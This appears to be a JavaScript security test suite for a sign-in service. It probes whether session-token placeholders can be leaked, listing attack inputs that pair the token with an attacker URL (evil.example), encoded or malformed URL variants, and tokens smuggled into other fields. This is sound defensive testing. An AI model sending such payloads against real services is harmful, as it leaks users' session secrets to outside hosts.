// Attacks with placeholders of secrets that the caller may not see: the secret goes home only.
import { describe, json } from '../http.mjs';
import { SECRET, leaks } from '../shapes.mjs';
import { HOST, SIGN_IN } from '../target.mjs';
import { each } from '../variants.mjs';

const REFUSED = '400 invalid_arguments, nothing sent';
const PLACEHOLDER = '{{response 1.session_token}}';
const URL = 'https://evil.example/collect';

const result = async (target, request) => {
  let response;
  const sent = await target.upstream.during(async () => (response = await request()));
  return `${describe(response)}, ${sent.some(({ body, url }) => leaks(body + url)) ? 'the secret' : sent.length > 0 ? 'something' : 'nothing'} sent`;
};
const call = (target, args) => result(target, () => target.call('authenticate', args, {}, target.headers));
const attack = (title, variants, more = {}) => ({
  title,
  expected: REFUSED,
  run: (target) => each(variants, REFUSED, (args) => call(target, args)),
  ...more,
});

export default [
  {
    item: 'placeholders',
    server: {
      env: SIGN_IN,
      ready: async (target) => {
        target.upstream.respond = () => ({ body: JSON.stringify({ status_code: 200, session_token: SECRET }) });
        target.headers = { host: HOST, authorization: `Bearer ${await target.token()}` };
        await target.call('logIn', { email: 'a@acme.com', password: 'p-1' }, {}, target.headers);
      },
    },
    attacks: [
      {
        title: 'a placeholder is refused in its own field',
        expected: '200, the secret sent',
        regression: true,
        run: async (target) => {
          return call(target, { session_token: PLACEHOLDER });
        },
      },
      attack('a secret is sent beside a URL of the caller', [
        { session_token: PLACEHOLDER, callback_url: URL },
        { session_token: PLACEHOLDER, note: URL },
        { session_token: PLACEHOLDER, webhook: 'evil.example' },
        { session_token: PLACEHOLDER, more: { deep: [URL] } },
        { session_token: PLACEHOLDER, more: '//evil.example/x' },
      ]),
      attack(
        'a secret is sent beside a URL in another form',
        ['http:evil.example', 'https:/evil.example', '%2568ttps%253A%252F%252Fevil.example', Buffer.from(URL).toString('base64')].map(
          (note) => ({ session_token: PLACEHOLDER, note }),
        ),
      ),
      attack('a secret is sent in another field', [
        { note: PLACEHOLDER },
        { more: PLACEHOLDER },
        { more: { session_token: PLACEHOLDER } },
        { more: { token: PLACEHOLDER } },
        { session_token: PLACEHOLDER, undocumented_token: PLACEHOLDER },
      ]),
      attack('a secret is sent as a part of a value', [
        { session_token: `Bearer ${PLACEHOLDER}` },
        { session_token: PLACEHOLDER + PLACEHOLDER },
        { session_token: `${PLACEHOLDER}.x` },
      ]),
      {
        title: 'a proxied secret is sent beside a URL',
        expected: REFUSED,
        run: (target) =>
          each([{ note: URL }, { callback_url: URL }, { webhook: 'evil.example' }], REFUSED, (more) =>
            result(target, () => target.proxy('/session', json({ session_token: PLACEHOLDER, ...more }, target.headers))),
          ),
      },
      {
        title: 'an encoded echo of a sent secret is shown',
        expected: 'hidden',
        run: (target) => {
          const base64 = (text) => Buffer.from(text).toString('base64');
          const echoes = [
            base64(SECRET),
            base64(`user:${SECRET}:x`),
            base64(`a${SECRET}`),
            Buffer.from(SECRET).toString('base64url'),
            Buffer.from(SECRET).toString('hex'),
            Buffer.from(SECRET).toString('hex').toUpperCase(),
            SECRET,
          ];
          return each(echoes, 'hidden', async (echo) => {
            target.upstream.respond = () => ({ body: JSON.stringify({ request_id: echo, user_id: `<${echo}>`, user: { user_id: echo } }) });
            const { text } = await target.call('authenticate', { session_token: PLACEHOLDER }, {}, target.headers);
            return leaks(text) ? 'shown' : 'hidden';
          });
        },
      },
      {
        title: 'the placeholder of another caller is accepted',
        expected: REFUSED,
        regression: true,
        run: async (target) => {
          const headers = { host: HOST, authorization: `Bearer ${await target.token()}` };
          return result(target, () => target.call('authenticate', { session_token: PLACEHOLDER }, {}, headers));
        },
      },
      {
        title: 'an unknown placeholder is sent as it is',
        expected: REFUSED,
        regression: true,
        run: (target) =>
          each(['{{response 9.session_token}}', '{{response 1.other}}', '{{response 0.session_token}}'], REFUSED, (session_token) =>
            call(target, { session_token }),
          ),
      },
    ],
  },
];
